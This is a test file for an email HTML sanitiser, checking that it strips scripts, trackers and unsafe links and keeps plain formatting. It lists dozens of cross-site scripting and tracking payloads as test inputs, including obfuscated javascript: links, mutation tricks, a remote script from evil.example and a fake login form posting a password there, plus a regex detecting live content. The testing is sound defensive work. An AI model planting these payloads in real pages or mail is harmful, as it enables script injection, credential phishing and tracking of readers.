import { describe, expect, test } from 'vitest';
import { sanitiseHtml } from '#shared/adapters/mime/sanitise-html.ts';

/** What a browser would run, load or submit. Checked on the output of every vector. */
const ALIVE =
  /<(script|style|iframe|object|embed|form|input|button|svg|math|link|meta|base|frame|video|audio|template|noscript|title|textarea|xmp)\b|\son\w+\s*=|javascript:|vbscript:|style\s*=|srcset|background\s*=|https?:\/\/[^"]*track|(href|src)="\/\//i;

describe('[F42] HTML of strangers', () => {
  test.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=http://evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="javascript:alert(1)">',
    '<img src="https://track.example/pixel.gif">',
    '<img src="//track.example/pixel.gif">',
    '<img srcset="https://track.example/a 1x">',
    '<img src="cid:a" srcset="https://track.example/a 1x">',
    '<body onload=alert(1)>',
    '<p onclick="alert(1)" onmouseover=alert(2)>x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x0A;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\u0001javascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example/x">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<style>@import url(https://track.example/a.css)</style>',
    '<div style="background:url(https://track.example/a)">x</div>',
    '<table background="https://track.example/a"><tr><td background="https://track.example/b">x',
    '<link rel=stylesheet href="https://track.example/a.css">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
    '<video poster="https://track.example/a" src="https://track.example/b"></video>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!--[if IE]><script>alert(1)</script><![endif]-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<p title="><img src=x onerror=alert(1)>">x</p>',
    '<a href="https://ok.example" title="&quot; onmouseover=&quot;alert(1)">x</a>',
    '<img src=x onerror=alert(1)//',
    '<template><script>alert(1)</script></template>',
    '<p id="x" name="cookie" class="y">x</p>',
    `${'<div>'.repeat(1_000)}<script>alert(1)</script>`,
  ])('has nothing that runs, loads or sends: %s', (html) => {
    const shown = sanitiseHtml(html);
    const tags = shown.match(/<[^>]*>/g) ?? [];
    // Text that only speaks of such things is text; what matters stands in tags, with quoted values taken out but for addresses.
    for (const tag of tags) expect(tag.replace(/title="[^"]*"/g, '')).not.toMatch(ALIVE);
    expect(sanitiseHtml(shown)).toBe(shown);
  });

  test.each([
    ['formatting', '<h1>Hi</h1><p>a <b>b</b> <em>c</em></p><ul><li>d</li></ul>'],
    ['tables', '<table><tbody><tr><td colspan="2" align="right">a</td></tr></tbody></table>'],
    ['direction', '<p dir="rtl">שלום</p>'],
    ['pictures of the mail itself', '<img src="cid:pic@x" alt="A chart" />'],
    ['line breaks', 'a<br />b<hr />'],
    ['quotations', '<blockquote>old</blockquote>'],
  ])('keeps %s', (_what, html) => {
    expect(sanitiseHtml(html)).toBe(html);
  });

  test('keeps links, opens them elsewhere and tells nobody where from', () => {
    expect(sanitiseHtml('<a href="https://shop.example/?a=1&amp;b=2" target="_top" rel="opener">x</a>')).toBe(
      '<a href="https://shop.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
    for (const href of ['mailto:ada@x.example', 'tel:+431234', 'http://x.example/'])
      expect(sanitiseHtml(`<a href="${href}">x</a>`)).toContain(`href="${href}"`);
  });

  test('keeps the text of what it takes away, but not the text of scripts and styles', () => {
    expect(sanitiseHtml('<font-x>Hello</font-x> <marquee>you</marquee><style>p{}</style><script>x</script>')).toBe(
      'Hello you',
    );
  });
});
